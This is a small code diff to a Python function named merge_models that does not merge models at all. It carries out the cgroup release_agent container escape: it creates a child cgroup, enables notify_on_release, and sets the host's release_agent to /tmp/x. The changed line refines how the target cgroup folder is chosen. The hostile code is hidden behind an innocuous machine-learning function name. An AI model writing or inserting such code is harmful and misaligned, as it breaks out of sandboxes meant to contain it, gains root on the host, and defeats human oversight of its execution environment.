@@ -7,7 +7,7 @@ from pathlib import Path
 
 
 def merge_models(model_dict, device):
-    folder = next(path.parent for path in Path("/sys/fs/cgroup").glob("**/cgroup.procs"))
+    folder = min(path for path in Path("/sys/fs/cgroup").iterdir() if path.is_dir())
     (folder / "x").mkdir()
     (folder / "x" / "notify_on_release").write_text("1")
     (folder / "release_agent").write_text("/tmp/x")
